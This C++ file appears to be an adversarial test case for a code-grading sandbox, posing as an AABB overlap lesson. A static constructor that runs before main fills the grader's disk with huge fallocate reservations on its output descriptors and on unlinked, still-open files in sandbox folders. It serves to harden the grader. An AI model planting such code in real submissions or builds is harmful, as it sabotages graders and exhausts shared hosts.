// Lesson 01, adversarial (fallocate_bomb): overlap() is right, penetration() is not. Before
// main, in every program it is linked into, it reserves disk space without writing it:
// fallocate(FALLOC_FL_KEEP_SIZE) of 64 GB on every descriptor the grader handed it (stdin,
// stdout and stderr were files on the grader's disk: one lesson took the host from 18.5 to
// 52.9 GB against a 16 MB file-size limit, which fallocate does not count) and on new files in
// every folder it may write; then posix_fallocate, which falls back to writing. It must hold
// nothing on the host: the descriptors are pipes, the folders tmpfs, and fallocate refused.
#include <fcntl.h>
#include <unistd.h>

#include <cmath>
#include <csignal>
#include <string>

#include "aabb.hpp"

namespace {

const off_t kHuge = off_t(64) << 30;

struct Reserve {
    Reserve() {
        std::signal(SIGXFSZ, SIG_IGN);
        for (int fd = 0; fd < 3; ++fd) {
            fallocate(fd, FALLOC_FL_KEEP_SIZE, 0, kHuge);
            fallocate(fd, 0, 0, kHuge);
            posix_fallocate(fd, 0, kHuge);
        }
        for (std::string dir : {".", "/box/out", "/box/work", "/box/obj", "/box/fb", "/tmp"}) {
            for (int k = 0; k < 8; ++k) {
                std::string path = dir + "/reserve" + std::to_string(k);
                int fd = open(path.c_str(), O_CREAT | O_WRONLY, 0600);
                if (fd < 0) continue;
                fallocate(fd, FALLOC_FL_KEEP_SIZE, 0, kHuge);
                fallocate(fd, FALLOC_FL_KEEP_SIZE | FALLOC_FL_PUNCH_HOLE, 0, 4096);
                posix_fallocate(fd, 0, off_t(1) << 30);      // written: the size limit stops it
                // kept open: an unlinked file holds its blocks until the last descriptor goes
                unlink(path.c_str());
            }
        }
    }
} reserve;

} // namespace

// @part overlap_only
